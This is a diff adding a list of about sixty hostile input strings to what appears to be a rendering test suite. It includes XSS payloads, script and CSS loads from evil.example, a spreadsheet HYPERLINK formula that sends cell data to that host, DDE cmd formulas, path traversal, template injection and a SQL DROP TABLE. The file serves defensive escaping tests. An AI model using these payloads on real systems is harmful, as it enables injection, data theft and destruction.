@@ -29,6 +29,79 @@ SHAPES: tuple[Callable[[str], str], ...] = (
 )
 N_NUL = 25
 
+_ALERT = "alert(document.domain)"
+# Sixty names for the reports, among them some that no store lets in (NUL, half a surrogate pair): what is in a page
+# must not depend on that.
+NAMES: tuple[str, ...] = (
+    # HTML and SVG
+    f"<script>{_ALERT}</script>",
+    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><img src=x onerror={_ALERT}>",
+    f'"><img src=x onerror={_ALERT}>',
+    f"'><svg onload={_ALERT}>",
+    f"<svg><script>{_ALERT}</script></svg>",
+    f"<svg><a xlink:href=javascript:{_ALERT}><text>x</text></a></svg>",
+    f"</title><script>{_ALERT}</script>",
+    f"</desc></svg><script>{_ALERT}</script><svg>",
+    f"</style><script>{_ALERT}</script>",
+    f"</script><script>{_ALERT}</script>",
+    f"</table></div></body><body onload={_ALERT}>",
+    f"<iframe src=javascript:{_ALERT}>",
+    "<base href=//evil.example/><form action=//evil.example/><button>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_ALERT}></style></mglyph></math>",
+    f"<details open ontoggle={_ALERT}>",
+    f"<input autofocus onfocus={_ALERT}>",
+    f"<a href='javascript:{_ALERT}'>click</a>",
+    "<!--",
+    "--><h1>loose</h1>",
+    "<![CDATA[ x ]]> ]]>",
+    "&lt;b&gt; &amp; &#60;b&#62; &nbsp;",
+    "&#0; &#x1F; &bogus;",
+    f"`{_ALERT}` ${{{_ALERT}}}",
+    # CSS
+    "expression(alert(1)); background:url(https://evil.example/x)",
+    "}*{display:none}body{background:url(//evil.example)}",
+    "@import 'https://evil.example/x.css';",
+    "\\3c script\\3e",
+    # URLs and paths
+    "javascript:alert(1)//",
+    "data:text/html,<script>alert(1)</script>",
+    "https://evil.example/?q=<b>",
+    "../../../../etc/passwd",
+    "CON",
+    # formulas
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+    "'=1+1",
+    '=1,"two";three',
+    # directions and what cannot be seen
+    "\u202egnp.exe",
+    "\u2066left\u2069\u2067right\u2069",
+    "שלום עולם\u200f!",
+    "zero\u200bwidth\u200cjoin\u200d\ufeff",
+    "soft\u00adhyphen\u2028line\u2029paragraph",
+    "Z" + "\u0335\u0321\u0489" * 60 + "algo",
+    # control characters and what is no text
+    "nul\x00inside",
+    "bell\x07 escape\x1b[31mred delete\x7f",
+    "two\nlines\r\nand\ttabs",
+    "half \ud800 a pair \udfff",
+    "\ufffe\uffff not characters",
+    # templates, queries, sizes
+    "{{ 7*7 }}{% raw %}{{ config }}${7*7}#{7*7}<%= 7*7 %>",
+    "'); DROP TABLE events; -- MATCH (n) DETACH DELETE n //",
+    "W" * 10_000,
+    "😀👩‍👩‍👧🏴‍☠️ 漢字 ünïcödé",
+)
+
 
 @dataclass(frozen=True)
 class HostileRun:
